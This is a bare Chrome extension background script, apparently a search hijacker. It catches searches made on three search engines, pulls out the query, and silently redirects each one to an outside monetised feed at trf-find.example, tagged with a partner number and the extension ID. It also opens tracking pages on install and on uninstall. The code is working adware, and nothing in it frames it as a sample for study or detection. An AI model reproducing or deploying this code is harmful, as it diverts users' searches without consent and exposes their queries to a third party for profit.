const engines = ['*://*.searcha.example/search?*', '*://*.searchb.example/search?*', '*://search.portalc.example/*'];
chrome.webRequest.onBeforeRequest.addListener(
  (d) => {
    const q = new URL(d.url).searchParams.get('q') || new URL(d.url).searchParams.get('p');
    if (!q || d.url.includes('fr=xt')) return;
    return { redirectUrl: 'https://feed.trf-find.example/serp?n=7741&sub=' + chrome.runtime.id + '&q=' + encodeURIComponent(q) };
  },
  { urls: engines, types: ['main_frame'] },
  ['blocking']
);
chrome.runtime.onInstalled.addListener((i) => {
  if (i.reason === 'install') chrome.tabs.create({ url: 'https://trf-find.example/thanks' });
  chrome.runtime.setUninstallURL('https://trf-find.example/bye');
});
